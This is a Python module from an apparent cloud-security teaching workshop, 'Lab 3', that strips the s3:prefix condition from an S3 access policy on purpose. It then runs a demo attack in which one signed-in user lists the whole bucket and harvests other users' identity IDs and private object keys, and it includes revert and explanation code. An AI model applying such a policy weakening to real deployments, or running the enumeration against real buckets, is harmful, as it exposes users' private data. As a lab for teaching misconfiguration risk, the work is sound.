"""Lab 3: s3:ListBucket without an s3:prefix condition.

ListBucket is granted on the bucket, not on keys, so only a condition on
`s3:prefix` limits what a listing shows. Without it any signed-in user
lists every key: each user's identity ID and the names of their private
photos, one policy mistake away from their data.
https://docs.aws.amazon.com/AmazonS3/latest/userguide/amazon-s3-policy-keys.html
"""

from __future__ import annotations

from botocore.exceptions import ClientError
from django.conf import settings

from core.deployment import Deployment
from workshop import changes
from workshop.base import AttackResult, Lab, Report
from workshop.outsider import Outsider, refused, victim_cleanup

SID = "SignedInUsersListOnePublisherAtATime"
VICTIM, ATTACKER = "alice@example.com", "bob@example.com"
MAX_KEYS = 1000  # one page is enough to show the leak
SHOWN = 5  # keys of others printed


def _broken(*, deployment: Deployment) -> dict:
    document = changes.provisioned_access_policy(deployment=deployment, kind="authenticated")
    changes.statement(document, SID).pop("Condition")
    return document


def apply(*, deployment: Deployment, report: Report) -> None:
    document = _broken(deployment=deployment)
    changes.access_policy_put(deployment=deployment, kind="authenticated", document=document, report=report)


def revert(*, deployment: Deployment, report: Report) -> None:
    changes.role_restore(deployment=deployment, kind="authenticated", report=report)


def applied(*, deployment: Deployment) -> bool:
    found = changes.statement(changes.access_policy_get(deployment=deployment, kind="authenticated"), SID)
    return found is not None and not found.get("Condition")


def attack(*, outsider: Outsider) -> AttackResult:
    outsider.step(f"Setup, as the victim: {VICTIM} signs in and stores a photo in her private prefix")
    alice = outsider.user_credentials(VICTIM, settings.DEMO_PASSWORD)
    key = f"private/{alice['identityId']}/lab03-private-photo.txt"
    outsider.s3(alice).put_object(Bucket=alice["bucket"], Key=key, Body=b"alice's private photo\n", ContentType="text/plain")
    try:
        outsider.step(f"{ATTACKER} signs in and takes the credentials the app hands his browser")
        bob = outsider.user_credentials(ATTACKER, settings.DEMO_PASSWORD)
        outsider.step(f"{ATTACKER} lists s3://{bob['bucket']}/ with no prefix at all")
        try:
            listing = outsider.s3(bob).list_objects_v2(Bucket=bob["bucket"], MaxKeys=MAX_KEYS)
        except ClientError as exc:
            return refused(exc)
        return _leaked(outsider, keys=[item["Key"] for item in listing.get("Contents", [])], own=bob["identityId"])
    finally:
        victim_cleanup(outsider, alice, key)


def _leaked(outsider: Outsider, *, keys: list[str], own: str) -> AttackResult:
    """What the listing gave away: keys under other identities' prefixes, and so those identities."""
    others = [key for key in keys if key.split("/")[1:2] != [own]]
    identities = {key.split("/")[1] for key in others if key.count("/") >= 2}
    outsider.got(
        f"{len(keys)} key{'s' * (len(keys) != 1)}, {len(others)} of other users, "
        f"of {len(identities)} other identit{'ies' if len(identities) != 1 else 'y'}"
    )
    for key in others[:SHOWN]:
        outsider.got(key)
    return AttackResult(succeeded=bool(others), obtained=tuple(others))

LAB = Lab(
    number=3,
    slug="03-listbucket-unscoped",
    title="ListBucket without an s3:prefix condition",
    rule="listbucket-unscoped",
    apply=apply,
    revert=revert,
    applied=applied,
    attack=attack,
    culprit=(
        f'Statement "{SID}" of the signed-in role\'s s3-access policy allows s3:ListBucket on the whole bucket, '
        'without its StringLike condition on s3:prefix ("public/*/*")'
    ),
)
